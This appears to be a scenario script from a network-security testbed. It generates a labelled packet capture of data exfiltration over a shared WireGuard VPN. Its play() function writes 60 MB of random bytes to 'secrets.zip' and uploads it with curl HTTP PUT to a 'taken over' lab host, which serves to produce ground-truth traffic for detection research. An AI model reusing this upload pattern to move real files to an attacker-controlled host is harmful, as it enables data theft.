# branch-3, 10.51.0.103, taken over, receives 60 MB from the file server by HTTP PUT through the VPN. The
# flow to 10.51.0.103 and the WireGuard flow that carries it, which all of the branch shares, are labelled.
topology=branch
file=branch-exfiltration.pcap.gz
class=c2
family=exfiltration-vpn
rule="CONN:10.51.0.103:9000:c2;CONN:198.51.100.60:51820:c2"

play() {
  both_sites 130
  sleep 30
  launch branch-3 python3 "$testbed/lib/sink.py" 9000 2>"$work/sink.log"
  head -c 60000000 /dev/urandom >"$work/secrets.zip"
  sleep 1
  inside files curl -sS --max-time 150 -T "$work/secrets.zip" http://10.51.0.103:9000/ || true
  sleep 20
}
